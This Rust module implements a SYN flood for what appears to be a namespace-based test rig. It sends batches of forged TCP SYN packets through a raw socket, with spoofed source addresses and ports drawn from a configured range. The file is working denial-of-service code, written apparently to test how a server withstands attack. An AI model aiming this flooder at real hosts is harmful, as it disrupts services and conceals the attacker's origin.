//! The SYN flood: connection requests that nobody means to complete, from one address or from many.
//!
//! A raw socket sends them, made in the attacker's namespace. The addresses are nobody's, so that no stack
//! answers the server's SYN-ACK with a reset and cleans up after the attack.

use std::io::{self, IoSlice};
use std::net::{Ipv4Addr, SocketAddrV4};
use std::os::fd::OwnedFd;

use rustix::io::Errno;
use rustix::net::sockopt::set_socket_send_buffer_size_force;
use rustix::net::{
    AddressFamily, MMsgHdr, SendAncillaryBuffer, SendFlags, SocketFlags, SocketType, connect, ipproto,
    sendmmsg, socket_with,
};

use super::packet::{SYN_BYTES, syn};
use super::rig::FORGED;

/// Packets of one system call: few enough that the good client, who shares the thread, does not wait for them.
const BATCH: usize = 8;
const SEND_BUFFER_BYTES: usize = 4 << 20;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Sources {
    One,
    /// As many as there are addresses in [`FORGED`], taken at random.
    Many,
}

pub struct SynFlood {
    socket: OwnedFd,
    sources: Sources,
    target: SocketAddrV4,
    random: u64,
    packets: [[u8; SYN_BYTES]; BATCH],
}

impl SynFlood {
    /// Belongs to the namespace of the calling thread.
    pub fn new(sources: Sources, target: SocketAddrV4) -> io::Result<SynFlood> {
        let flags = SocketFlags::CLOEXEC | SocketFlags::NONBLOCK;
        let socket = socket_with(AddressFamily::INET, SocketType::RAW, flags, Some(ipproto::RAW))?;
        set_socket_send_buffer_size_force(&socket, SEND_BUFFER_BYTES)?;
        connect(&socket, &target)?;
        // Any number but zero; the same attack each time.
        let random = 0x9e37_79b9_7f4a_7c15;
        Ok(SynFlood { socket, sources, target, random, packets: [[0; SYN_BYTES]; BATCH] })
    }

    /// Sends up to `due` packets and says how many left.
    pub fn advance(&mut self, due: usize) -> io::Result<usize> {
        let count = due.min(BATCH);
        if count == 0 {
            return Ok(0);
        }
        for at in 0..count {
            let (source, sequence) = self.next_source();
            self.packets[at] = syn(source, self.target, sequence);
        }
        let slices: Vec<_> = self.packets[..count].iter().map(|packet| [IoSlice::new(packet)]).collect();
        let mut controls: Vec<_> = slices.iter().map(|_| SendAncillaryBuffer::default()).collect();
        let mut messages: Vec<_> =
            slices.iter().zip(&mut controls).map(|(slice, control)| MMsgHdr::new(slice, control)).collect();
        match sendmmsg(&self.socket, &mut messages, SendFlags::empty()) {
            Ok(sent) => Ok(sent),
            Err(Errno::AGAIN | Errno::INTR | Errno::NOBUFS) => Ok(0),
            Err(error) => Err(error.into()),
        }
    }

    fn next_source(&mut self) -> (SocketAddrV4, u32) {
        // xorshift64*
        self.random ^= self.random >> 12;
        self.random ^= self.random << 25;
        self.random ^= self.random >> 27;
        let bits = self.random.wrapping_mul(0x2545_f491_4f6c_dd1d);
        let (high, sequence) = ((bits >> 32) as u32, bits as u32);
        let (network, prefix) = FORGED;
        let host = match self.sources {
            Sources::One => 1,
            Sources::Many => high >> prefix,
        };
        let port = 1024 + (sequence % 64_000) as u16;
        (SocketAddrV4::new(Ipv4Addr::from_bits(network.to_bits() | host), port), sequence)
    }
}
